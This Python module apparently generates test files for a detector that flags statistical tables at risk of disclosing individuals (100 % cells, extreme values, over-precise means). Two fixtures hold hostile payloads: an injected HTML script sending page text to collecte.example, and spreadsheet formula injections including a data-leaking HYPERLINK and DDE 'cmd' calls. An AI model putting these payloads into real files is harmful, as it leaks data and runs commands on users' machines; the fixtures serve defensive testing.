"""Files at which a person must look: nothing proves a breach, and something may be one."""

from __future__ import annotations

from .cases import Draw, Label, case
from .clean_tables import stays_by_age_and_sex
from .words import REGIONS
from .writers import Sheet, Value, html

FLAG = Label.MUST_FLAG


@case(FLAG, "class_disclosure", "csv_fr", "csv", "xlsx", "html", difficulty=3)
def full_cell(draw: Draw) -> Sheet:
    """All members of a group have the attribute: 100 %, and a zero beside it."""
    rows: list[list[Value]] = []
    for index, place in enumerate(draw.words.places):
        carriers, others = draw.count(30, 20), 0 if index == 2 else draw.count(200)
        rows.append([place, carriers, others, carriers + others])
    return Sheet([draw.turn("commune", "Ville"), "porteurs", "non_porteurs", "total"], rows)


@case(FLAG, "class_disclosure", "csv_fr", "csv", "xlsx", difficulty=4)
def full_percentage(draw: Draw) -> Sheet:
    """A share of 100 % in a group."""
    rows: list[list[Value]] = [
        [name, draw.count(150, 80), 100.0 if index == 3 else draw.between(20, 60)]
        for index, name in enumerate(REGIONS[:8])
    ]
    return Sheet(["Région", "Patients", draw.turn("% séropositifs", "Part contaminés (%)")], rows)


@case(FLAG, "extremes", "csv_fr", "csv", "xlsx", "ipynb", difficulty=4)
def extremes_of_large_groups(draw: Draw) -> Sheet:
    """Smallest and largest values, each of which is one person's."""
    names = ("Âge (ans)", "IMC", "Durée de séjour (jours)", "Coût (€)")
    rows: list[list[Value]] = [
        [
            name,
            draw.count(3000, 900),
            draw.between(20, 70),
            draw.between(4, 15),
            draw.between(1, 17),
            draw.between(95, 900),
        ]
        for name in names
    ]
    return Sheet(
        ["Variable", "n", "Moyenne", "Écart-type", draw.turn("Minimum", "min"), draw.turn("Maximum", "max")], rows
    )


@case(FLAG, "active_content", ".html", ".html", ".html", difficulty=2)
def page_that_calls_out(draw: Draw) -> bytes:
    """An aggregate page with a script, a picture or a form of another machine."""
    added = draw.turn(
        "<script>fetch('https://collecte.example/?d=' + document.body.innerText)</script>",
        '<img src="https://collecte.example/p.png?u=12">',
        '<form action="https://collecte.example/"><input name="a"></form>',
    )  # fmt: skip
    return html(stays_by_age_and_sex(draw)).decode().replace("</body>", added + "</body>").encode()


@case(FLAG, "formula", "csv_fr", "csv", "xlsx", difficulty=3)
def formula_in_cell(draw: Draw) -> Sheet:
    """A cell that a spreadsheet would run."""
    table = stays_by_age_and_sex(draw)
    rows = [list(row) for row in table.rows]
    rows[2][0] = draw.turn(
        '=HYPERLINK("https://collecte.example/?"&B2;"détail")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
    )
    return Sheet(table.titles, rows)


@case(
    FLAG,
    "rows_alike",
    "csv_fr",
    "csv",
    "parquet",
    difficulty=4,
    reason="Microdata of which every combination stands at least eleven times",
)
def k_anonymous_rows(draw: Draw) -> Sheet:
    """One line for each person, every combination at least eleven times."""
    combinations = [
        (sex, age, zone) for sex in ("F", "H") for age in draw.words.ages[1:4] for zone in ("Nord", "Sud", "Est")
    ]
    rows: list[list[Value]] = [list(one) for one in combinations for _ in range(draw.random.randint(14, 60))]
    draw.random.shuffle(rows)
    return Sheet(["sexe", "classe_age", "zone"], rows)


@case(FLAG, "too_precise", "csv", "csv_fr", "parquet", difficulty=5)
def sixteen_digits(draw: Draw) -> Sheet:
    """Means with sixteen digits beside group sizes: sums of whole numbers, and with them persons, can be sought."""
    rows: list[list[Value]] = []
    for region in REGIONS:
        size = draw.count(40, 12)
        rows.append([region, size, sum(draw.random.randint(1, 40) for _ in range(size)) / size])
    return Sheet(["region", "n", draw.turn("cout_moyen", "age_moyen")], rows)


@case(FLAG, "class_disclosure", "csv_fr", "csv", difficulty=4)
def nearly_full(draw: Draw) -> Sheet:
    """More than nine in ten of a group's members share a sensitive attribute."""
    rows: list[list[Value]] = []
    for index, place in enumerate(draw.words.places):
        yes, no = (draw.count(400, 300), 14) if index == 4 else (draw.count(120), draw.count(200))
        rows.append([place, yes, no, yes + no])
    return Sheet(["ville", "contaminés", "non contaminés", "total"], rows)
